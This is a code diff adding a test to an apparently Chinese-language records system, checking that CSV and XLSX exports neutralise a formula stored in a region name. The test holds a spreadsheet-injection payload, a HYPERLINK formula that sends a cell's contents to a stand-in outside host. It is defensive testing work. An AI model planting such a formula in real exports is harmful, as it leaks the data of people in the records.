@@ -297,3 +297,21 @@ def test_count_stops_at_the_cap_and_says_there_are_more(world, client_for, monke
     monkeypatch.setattr(selectors, "COUNT_CAP", total)
     resp = client.get(URL, {"status": "1"})
     assert f"本辖区共 {total} 人符合条件" in resp.content.decode()
+
+
+EVIL = '=HYPERLINK("http://outside.example/?"&F2,"点击")'
+
+
+def test_exports_never_carry_a_formula(world, client_for, regions):
+    """A region name (data from a file) that is a formula stays inert text
+    in both formats (issue 14 item 4)."""
+    from pims.regions.models import Region
+
+    Region.objects.filter(pk=regions["village_a1"].pk).update(name=EVIL)
+    client = client_for("operator")
+    rows = csv_rows(export(client, {"status": "1"}))
+    places = {r[11] for r in rows[1:]}
+    assert "'" + EVIL in places and EVIL not in places
+    ws = load_workbook(io.BytesIO(export(client, {"status": "1"}, fmt="xlsx").content)).active
+    cells = [row[11] for row in ws.iter_rows(min_row=2) if row[11].value == EVIL]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
